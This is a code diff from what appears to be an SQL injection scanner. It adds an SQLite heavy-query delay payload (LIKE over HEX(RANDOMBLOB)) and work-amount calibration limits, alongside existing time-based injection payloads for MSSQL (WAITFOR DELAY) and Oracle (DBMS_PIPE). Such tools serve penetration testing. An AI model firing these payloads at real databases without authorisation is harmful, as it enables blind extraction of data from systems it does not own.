@@ -71,8 +71,10 @@ export const DBMS_FINGERPRINTS: readonly { readonly dbms: Dbms; readonly conditi
 /** A delay expression for a DBMS, usable as a condition (`AND <expr>`), or as a stacked statement. */
 export interface DelayPayload {
   readonly dbms: Dbms;
-  /** The payload for a delay of `s` seconds in a context. */
+  /** The payload for a delay of `s` seconds in a context (heavy payloads: `s` is a work amount, 0 for none). */
   build(original: string, ctx: SqlContext, s: number): string;
+  /** No sleep function: the delay comes from work whose cost is calibrated against the target first. */
+  readonly heavy?: boolean;
 }
 
 const cond = (dbms: Dbms, expr: (s: number) => string): DelayPayload => ({
@@ -89,7 +91,13 @@ export const DELAY_PAYLOADS: readonly DelayPayload[] = [
     build: (original, ctx, s) => `${original}${ctx.prefix};WAITFOR DELAY '0:0:${s}'-- -`,
   },
   cond('Oracle', (s) => `1=DBMS_PIPE.RECEIVE_MESSAGE('rmp',${s})`),
+  // SQLite has no sleep: hex-encode a random blob of `n` bytes and scan it with LIKE.
+  { ...cond('SQLite', (n) => `1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(${Math.max(1, Math.round(n))}))))`), heavy: true },
 ];
+
+/** Work amount of the first heavy-query probe, and the largest one ever sent. */
+export const HEAVY_CALIBRATION = 10_000_000;
+export const HEAVY_MAX = 300_000_000;
 
 /** The contexts worth trying for an original value, most likely first. */
 export function contextsFor(original: string): SqlContext[] {
